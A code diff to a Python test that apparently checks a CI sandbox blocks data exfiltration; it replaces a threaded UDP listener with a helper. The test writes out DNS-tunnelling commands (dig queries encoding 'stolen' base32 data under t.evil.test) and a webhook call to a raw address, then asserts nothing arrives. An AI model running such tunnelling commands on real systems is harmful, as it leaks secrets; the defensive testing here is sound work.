@@ -18,7 +18,6 @@ import signal
 import socket
 import subprocess
 import sys
-import threading
 import time
 from pathlib import Path
 
@@ -105,18 +104,7 @@ def test_tunnel_and_webhook_to_unlisted_destinations_move_no_data(lab, tmp_path,
     """An exfiltration attempt through DNS (queries under an unlisted domain, via the
     allowed resolver and straight to the attacker's server) and over HTTP to a raw
     address: the attacker's servers receive nothing."""
-    received = []
-    sink = lab.popen(lab.server_ns, [sys.executable, "-c", (
-        "import socket,sys\n"
-        f"s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('{OTHER_V4}',53))\n"
-        "s.settimeout(20)\n"
-        "try:\n"
-        "    while True:\n"
-        "        d,_=s.recvfrom(4096); print(len(d), flush=True)\n"
-        "except socket.timeout:\n"
-        "    pass\n")], stdout=subprocess.PIPE, text=True)
-    reader = threading.Thread(target=lambda: received.extend(sink.stdout), daemon=True)
-    reader.start()
+    sink = lab.udp_sink(OTHER_V4, 53)
     secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
     script = "; ".join([
         *[f"dig +short +tries=1 +time=1 {secret}{i}.t.evil.test >/dev/null" for i in range(3)],
@@ -128,9 +116,7 @@ def test_tunnel_and_webhook_to_unlisted_destinations_move_no_data(lab, tmp_path,
     assert r.returncode == 0, r.stderr
     assert "webhook 7" in r.stdout, r.stdout       # curl: could not connect
     assert "direct 9" in r.stdout, r.stdout        # dig: no server reachable
-    sink.wait(30)
-    reader.join(5)
-    assert received == [], "the attacker's DNS server received tunnel data"
+    assert sink.stop() == [], "the attacker's DNS server received tunnel data"
     notes = rows(tmp_path / "logs", "notice")
     tunnel = [n for n in notes if n["note"] == "CicdAudit::Blocked_DNS_Query"]
     assert sorted(n["sub"] for n in tunnel) == [f"{secret.lower()}{i}.t.evil.test" for i in range(3)]
